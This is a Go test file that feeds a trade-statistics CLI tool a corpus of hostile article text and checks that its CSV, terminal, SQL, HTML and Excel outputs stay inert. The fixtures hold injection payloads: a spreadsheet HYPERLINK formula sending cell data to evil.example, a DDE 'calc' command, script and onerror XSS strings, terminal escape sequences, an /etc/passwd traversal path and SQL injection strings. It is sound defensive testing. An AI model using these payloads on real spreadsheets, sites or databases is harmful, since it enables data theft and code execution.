package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"
)

// Hostile text from articles: it must never become a live formula in a
// spreadsheet, markup or script in the page, an escape sequence on the
// terminal, SQL, or a file name.

// hostileCorpus writes articles full of hostile text into dir and returns
// the paths to ingest, relative to dir.
func hostileCorpus(t *testing.T, dir string) []string {
	t.Helper()
	recs := []map[string]string{
		{"title": `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "url": "javascript:alert(1)", "date": "2024-03-01",
			"body": "=1+2 Chile's exports rose 5% to $3 billion in 2024, the ministry said.\n\n@SUM(A1:A9) Chile's imports fell 2 percent in 2024.\n\n-3+4 Chile's trade surplus reached $1.2 billion in 2024."},
		{"title": `<script>alert("t")</script><img src=x onerror=alert(2)>`, "url": `https://example.com/"><script>alert(3)</script>`, "date": "2024-03-02",
			"body": "Chile's exports rose 6% to $3.2 billion in 2024, <b>officials</b> said. <script>alert(4)</script>\n\nChile's imports fell 3 percent in 2024."},
		{"title": "+cmd|' /C calc'!A0", "url": "@evil", "date": "2024-03-03",
			"body": "\tChile's exports rose 5.5% to $3.1 billion in 2024.\r\n\r\nChile's imports fell 2.5 percent in 2024."},
		{"title": "\x1b]0;pwned\x07\x1b[2J../../../etc/passwd", "url": "http://x/\x1b[31m", "date": "2024-03-04",
			"body": "\x1b[31mChile's exports rose 5.1% to $3 billion in 2024.\x1b[0m\n\nChile's imports fell 2 percent in 2024."},
		{"title": "'; DROP TABLE claims; --", "date": "2024-03-05",
			"body": "Chile's exports rose 4.9% in 2024 to $2.9 billion; '; DROP TABLE claims; -- 50%_off \"quoted\"."},
	}
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	for _, r := range recs {
		enc.Encode(r)
	}
	writeFiles(t, dir, map[string]string{
		"evil.jsonl": b.String(),
		// File names that look like formulas; "-" starts a flag unless
		// after "--".
		"=1+1.txt":   "=1+1\n\n=Chile's exports rose 5.3% in 2024 to $3 billion.\n",
		"@sum.txt":   "@SUM(1)\n\n@Chile's imports fell 1 percent in 2024.\n",
		"-rf.txt":    "-rf\n\n-Chile's exports rose 5.2% in 2024.\n",
		"+plus.html": `<html><head><title>+HYPERLINK("x")</title></head><body><article><h1>=A1</h1><p>Chile's exports rose 5.4% to $3 billion in 2024, the central bank said on Tuesday in Santiago, beating forecasts.</p></article></body></html>`,
	})
	return []string{"evil.jsonl", "=1+1.txt", "@sum.txt", "+plus.html", "--", "-rf.txt"}
}

// formulaStart reports whether a spreadsheet would read a cell starting
// like s as a formula (or a command: tab and CR, with some programs).
func formulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// checkCSV checks every cell of a CSV output: a cell that starts like a
// formula is a number of one of the numeric columns, else it is guarded.
func checkCSV(t *testing.T, name, out string, numeric ...string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if len(recs) < 2 {
		t.Fatalf("%s: no rows:\n%s", name, out)
	}
	guarded := 0
	for _, r := range recs[1:] {
		for i, cell := range r {
			col := recs[0][i]
			if strings.HasPrefix(cell, "'") && formulaStart(cell[1:]) {
				guarded++
			}
			if !formulaStart(cell) {
				continue
			}
			if _, err := strconv.ParseFloat(cell, 64); err != nil || !slices.Contains(numeric, col) {
				t.Errorf("%s: column %s: cell %q starts like a formula", name, col, cell)
			}
		}
	}
	if guarded == 0 {
		t.Errorf("%s: no guarded cell: the hostile text is missing", name)
	}
}

func TestHostileText(t *testing.T) {
	dir := t.TempDir()
	paths := hostileCorpus(t, dir)
	t.Chdir(dir)
	dbPath := filepath.Join(t.TempDir(), "t.db")
	t.Setenv("TRADESTATS_DB", dbPath)
	if code, _, stderr := runCmd(t, "", append([]string{"ingest", "-q"}, paths...)...); code != 0 {
		t.Fatalf("ingest: %s", stderr)
	}

	t.Run("csv", func(t *testing.T) {
		claimNums := []string{"start", "end", "value", "max"}
		_, out, _ := runCmd(t, "", "claims", "--format", "csv")
		checkCSV(t, "claims", out, claimNums...)
		_, out, _ = runCmd(t, "", "export", "--format", "csv", "-o", "-")
		checkCSV(t, "export", out, claimNums...)
		_, out, _ = runCmd(t, "", "articles", "--format", "csv")
		checkCSV(t, "articles", out, "claims")
		_, out, _ = runCmd(t, "", "extract", "--format", "csv", "evil.jsonl")
		checkCSV(t, "extract", out, claimNums...)
		_, out, _ = runCmd(t, "", "compare", "--all", "--format", "csv")
		checkCSV(t, "compare", out, "group", "min", "median", "max", "spread", "relative_spread", "articles", "value", "low", "high")
	})

	t.Run("terminal", func(t *testing.T) {
		for _, args := range [][]string{
			{"claims", "--format", "table"},
			{"articles", "--format", "table"},
			{"compare", "--all", "--format", "table"},
			{"summary"},
			{"extract", "--format", "table", "evil.jsonl"},
		} {
			t.Setenv("COLUMNS", "300")
			code, out, stderr := runCmd(t, "", args...)
			if code != 0 {
				t.Fatalf("%v: exit %d: %s", args, code, stderr)
			}
			if i := strings.IndexFunc(out, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f }); i >= 0 {
				t.Errorf("%v prints a control character: %q", args, out[max(0, i-20):min(len(out), i+20)])
			}
		}
	})

	t.Run("sql", func(t *testing.T) {
		// Filters are literal text: quotes are quotes, % and _ are no
		// wildcards. literal, if set, is in every claim found (sentence,
		// text or title).
		for _, tt := range []struct {
			args    []string
			some    bool
			literal string
		}{
			{[]string{"--search", "' OR 1=1 --"}, false, ""},
			{[]string{"--search", "'; DROP TABLE claims; --"}, true, "'; DROP TABLE claims; --"},
			{[]string{"--subject", "%"}, false, ""},
			{[]string{"--subject", "' OR '1'='1"}, false, ""},
			{[]string{"--metric", "_xports"}, false, ""},
			{[]string{"--search", "50%_off"}, true, "50%_off"},
			{[]string{"--search", "_"}, true, "_"},
			{[]string{"--search", `"quoted"`}, true, `"quoted"`},
			{[]string{"--period", "2%"}, false, ""},
			{[]string{"--article", "' OR 1=1 --"}, false, ""},
			{[]string{"--subject", "Chile"}, true, ""},
		} {
			code, out, stderr := runCmd(t, "", append([]string{"claims", "--format", "jsonl"}, tt.args...)...)
			cs := jsonlClaims(t, out)
			if code != 0 || (len(cs) > 0) != tt.some {
				t.Errorf("claims %q: exit %d, %d claims, %s", tt.args, code, len(cs), stderr)
			}
			for _, c := range cs {
				if tt.literal != "" && !strings.Contains(c.Sentence+c.Text+c.Title, tt.literal) {
					t.Errorf("claims %q: claim %q in %q", tt.args, c.Text, c.Sentence)
				}
			}
		}
		if n := checkDB(t, dbPath); n != 9 {
			t.Errorf("%d articles after the queries, want 9", n)
		}
	})

	t.Run("report", func(t *testing.T) {
		out := filepath.Join(t.TempDir(), "out")
		if code, _, stderr := runCmd(t, "", "report", "--svg", "-o", out); code != 0 {
			t.Fatalf("report: exit %d: %s", code, stderr)
		}
		checkReportFiles(t, out)
		checkPage(t, filepath.Join(out, "index.html"))
		checkWorkbook(t, filepath.Join(out, "tradestats.xlsx"))

		// chart writes the file it is told to, and nothing else.
		chartDir := t.TempDir()
		file := filepath.Join(chartDir, "c.svg")
		if code, _, stderr := runCmd(t, "", "chart", "--kind", "compare", "--subject", "Chile", "-o", file); code != 0 {
			t.Fatalf("chart: exit %d: %s", code, stderr)
		}
		if entries, _ := os.ReadDir(chartDir); len(entries) != 1 || entries[0].Name() != "c.svg" {
			t.Errorf("chart wrote %v, want c.svg only", entries)
		}
	})
}

// checkReportFiles checks that a report directory holds only the files a
// report writes, named by number and kind, never after article text.
func checkReportFiles(t *testing.T, dir string) {
	t.Helper()
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			t.Fatal(err)
		}
		rel, _ := filepath.Rel(dir, path)
		switch {
		case rel == "." || rel == "charts" || rel == "index.html" || rel == "tradestats.xlsx":
		case filepath.Dir(rel) == "charts" && reportChartFile.MatchString(d.Name()):
		default:
			t.Errorf("report wrote %s", rel)
		}
		return nil
	})
	if entries, _ := os.ReadDir(filepath.Dir(dir)); len(entries) != 1 {
		t.Errorf("report wrote beside its directory: %v", entries)
	}
}

// checkPage checks that index.html has no markup from articles: no script
// element, no event handler attribute, no javascript: URL, and that the
// hostile titles are shown as text.
func checkPage(t *testing.T, path string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	z := html.NewTokenizer(bytes.NewReader(b))
	var text strings.Builder
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if z.Err() != io.EOF {
				t.Fatal(z.Err())
			}
			break
		}
		tok := z.Token()
		switch tt {
		case html.StartTagToken, html.SelfClosingTagToken:
			if tok.Data == "script" || tok.Data == "iframe" || tok.Data == "object" {
				t.Errorf("index.html has a <%s> element", tok.Data)
			}
			if tok.Data == "img" && !strings.HasPrefix(attrVal(tok, "src"), "charts/") {
				t.Errorf("index.html has an image from %q", attrVal(tok, "src"))
			}
			for _, a := range tok.Attr {
				if strings.HasPrefix(a.Key, "on") || strings.Contains(strings.ToLower(a.Val), "javascript:") {
					t.Errorf("index.html: attribute %s=%q", a.Key, a.Val)
				}
			}
		case html.TextToken:
			text.WriteString(tok.Data)
		}
	}
	if !strings.Contains(text.String(), `<script>alert("t")</script>`) {
		t.Error("index.html does not show the script title as text")
	}
	if strings.ContainsRune(text.String(), 0x1b) {
		t.Error("index.html holds an escape character")
	}
}

// attrVal returns the value of tok's attribute key.
func attrVal(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// checkWorkbook checks every cell of every sheet: no formulas, and text
// that starts like a formula is a string cell. It also looks for formula
// elements in the sheets' XML, and checks that only safe URLs are links.
func checkWorkbook(t *testing.T, path string) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	hostile := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s: formula %q", sheet, cell, formula)
				}
				if !formulaStart(v) {
					continue
				}
				typ, _ := f.GetCellType(sheet, cell)
				if _, err := strconv.ParseFloat(v, 64); err == nil && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					continue // a negative number
				}
				if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
					t.Errorf("%s!%s: %q is not a text cell (type %v)", sheet, cell, v, typ)
				}
				hostile++
			}
		}
		if ok, target, _ := f.GetCellHyperLink(sheet, "A1"); ok && !strings.HasPrefix(target, "http") {
			t.Errorf("%s: link to %q", sheet, target)
		}
	}
	if hostile == 0 {
		t.Error("no hostile text in the workbook: the test is not testing")
	}
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, zf := range zr.File {
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		if strings.HasPrefix(zf.Name, "xl/worksheets/") && (bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f "))) {
			t.Errorf("%s holds a formula element", zf.Name)
		}
		// Links live in the relationships: only http(s) and mailto.
		if strings.HasSuffix(zf.Name, ".rels") && (bytes.Contains(bytes.ToLower(b), []byte("javascript:")) || bytes.Contains(b, []byte("@evil"))) {
			t.Errorf("%s links to an unsafe URL", zf.Name)
		}
	}
}
